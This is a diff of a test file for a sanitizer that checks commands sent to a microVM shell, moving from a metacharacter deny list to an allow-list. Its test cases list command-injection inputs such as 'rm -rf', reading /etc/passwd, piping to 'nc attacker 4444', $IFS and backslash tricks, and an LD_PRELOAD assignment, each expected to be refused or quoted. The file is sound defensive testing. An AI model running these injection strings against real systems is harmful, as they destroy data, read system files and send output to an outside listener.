@@ -4,31 +4,46 @@ import { join } from "node:path";
 import { execa } from "execa";
 import { describe, expect, it } from "vitest";
 import { findRuntime, formatBenchTable, rememberSession, resolveSession } from "../../scripts/lib/agent-client";
-import { commandToSend, shellQuote } from "../../scripts/lib/exec-command";
+import { commandToSend } from "../../scripts/lib/exec-command";
 import { FakeClient } from "../helpers/fakes";
 
 describe("exec: what reaches the microVM's shell", () => {
   it("passes a plain command as is", () => {
     expect(commandToSend({ command: "df -h /mnt/workspace /mnt/s3data" })).toBe("df -h /mnt/workspace /mnt/s3data");
+    expect(commandToSend({ command: "dd if=/dev/zero of=/mnt/workspace/x bs=1M count=1" })).toBe("dd if=/dev/zero of=/mnt/workspace/x bs=1M count=1");
   });
 
   it.each([
     ["ls; rm -rf /mnt/s3data", '";"'],
-    ["cat /etc/passwd && curl x", '"&&"'],
+    ["cat /etc/passwd && curl x", '"&"'],
     ["ls | nc attacker 4444", '"|"'],
-    ["echo `id`", "a backtick"],
-    ["echo $(id)", '"$("'],
-    ["echo hi > /mnt/s3data/x", "a redirection"],
+    ["echo `id`", '"`"'],
+    ["echo $(id)", '"$", "(", ")"'],
+    ["echo hi > /mnt/s3data/x", '">"'],
     ["sleep 100 &", '"&"'],
     ["ls\nid", "a newline"],
+    ["cat${IFS}/etc/passwd", '"$", "{", "}"'],
+    ["ls$IFS/", '"$"'],
+    ["echo $'\\x3b'id", String.raw`"$", "'", "\\"`],
+    ["eval ls\\;id", String.raw`"\\", ";"`],
+    ["sh -c ls\\;id", String.raw`"\\", ";"`],
+    ["ls /mnt/*", '"*"'],
+    ["ls ~root", '"~"'],
+    ["ls\tid", "a tab"],
+    ["ls ；id", "U+FF1B"],
   ])("refuses %j (%s)", (command, named) => {
-    expect(() => commandToSend({ command })).toThrow(`refusing --command with shell metacharacters (${named}`);
+    expect(() => commandToSend({ command })).toThrow(`refusing --command with characters outside its allow-list (${named}`);
   });
 
-  it("quotes an argv array word by word, so metacharacters stay literal", () => {
-    expect(commandToSend({ argv: ["ls", "-la", "/mnt/s3data"] })).toBe("ls -la /mnt/s3data");
-    expect(commandToSend({ argv: ["grep", "-r", "a;b | c", "/mnt/workspace"] })).toBe("grep -r 'a;b | c' /mnt/workspace");
-    expect(shellQuote("it's $(x)")).toBe(`'it'\\''s $(x)'`);
+  it("refuses a leading environment assignment", () => {
+    expect(() => commandToSend({ command: "LD_PRELOAD=/mnt/s3data/x.so ls" })).toThrow("refusing --command that starts with an environment assignment (LD_PRELOAD=…)");
+  });
+
+  it("quotes every word of an argv array, so metacharacters and assignments stay literal", () => {
+    expect(commandToSend({ argv: ["ls", "-la", "/mnt/s3data"] })).toBe("'ls' '-la' '/mnt/s3data'");
+    expect(commandToSend({ argv: ["grep", "-r", "a;b | c", "/mnt/workspace"] })).toBe("'grep' '-r' 'a;b | c' '/mnt/workspace'");
+    expect(commandToSend({ argv: ["LD_PRELOAD=/tmp/x.so", "ls"] })).toBe("'LD_PRELOAD=/tmp/x.so' 'ls'");
+    expect(commandToSend({ argv: ["echo", "it's $(x)"] })).toBe(`'echo' 'it'\\''s $(x)'`);
   });
 
   it("wants exactly one form", () => {
@@ -81,7 +96,9 @@ describe("invoke and exec from the command line", () => {
       run("scripts/invoke.ts", "--env", "dev", "--prompt", "hi", "--sizes", "1KB"),
     ]);
     expect([metachar.exitCode, noSession.exitCode, twoPayloads.exitCode, sizes.exitCode]).toEqual([2, 2, 2, 2]);
-    expect(metachar.stderr.split("\n")[0]).toBe('error: refusing --command with shell metacharacters (";"): the string would run as more than one command in the microVM');
+    expect(metachar.stderr.split("\n")[0]).toBe(
+      'error: refusing --command with characters outside its allow-list (";"): it takes letters, digits, spaces and _ . / : , @ % + - = only, so that it runs as one plain command and nothing in it expands',
+    );
     expect(metachar.stderr).toContain("pass the program and its arguments after -- instead");
     expect(noSession.stderr.split("\n")[0]).toContain("--session is required");
     expect(twoPayloads.stderr.split("\n")[0]).toBe("error: give exactly one of --prompt, --payload, --payload-file, --report, --bench");
